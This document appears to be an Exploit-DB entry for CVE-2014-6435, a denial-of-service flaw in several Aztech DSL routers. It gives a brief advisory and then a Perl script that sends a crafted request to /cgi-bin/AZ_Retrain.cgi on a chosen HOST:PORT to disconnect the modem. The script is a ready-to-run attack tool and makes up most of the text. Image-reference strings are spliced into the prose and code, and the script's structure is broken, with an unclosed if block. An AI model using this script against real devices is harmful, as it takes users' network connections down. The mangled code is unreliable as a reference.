Multiple Aztech Routers '/cgi-bin/AZ_Retrain.cgi' Denial of Service Vulnerability

ID EDB-ID:39315
Type exploitdb
Reporter Federick Joe P Fajardo
Modified 2014-09-15T00:00:00


Multiple Aztech Routers '/cgi-bin/AZ_Retrain.cgi' Denial of Service Vulnerability. CVE-2014-6435. Remote exploit for hardware platform


Multiple Aztech routers are prone to a denial-of-service vulnerability.

Attackers mayexploit this issue to cause an affected device to crash, resulting in a denial-of-service condition.

Aztech DSL5018EN, DSL705E and DSL705EU are vulnerable.

use strict;
use IO::Socket;

if(!defined($ARGV[0])) {
system ('clear');
print"---\n";
print "++ Aztech Modem Denial of Service Attack\n";
print "++ Usage: perl $0 TARGET:PORT\n";
print "++ Ex: perl $0\n\n";

my $TARGET = $ARGV[0];
my ($HOST, $PORT)=split(':',$TARGET);
my $PATH = "%2f%63%67%69%2d%62%69%6e%2f%41%5a%5f%52%65%74%72%61%69%6e%2e%63%67%69";

system ('clear');
print "---\n";
print "++ Resetting WAN modem $TARGET\n";

my $POST = "GET $PATH HTTP/1.1";
my $ACCEPT = "Accept: text/html";

my $sock = new IO::Socket::INET ( PeerAddr => "$HOST",PeerPort => "$PORT",Proto => "tcp"); die "[-] Can't creat socket: $!\n" unless $sock;

print $sock "$POST\n";
print $sock "$ACCEPT\n\n";
print "++ Sent. The modem should bedisconnected by now.\n";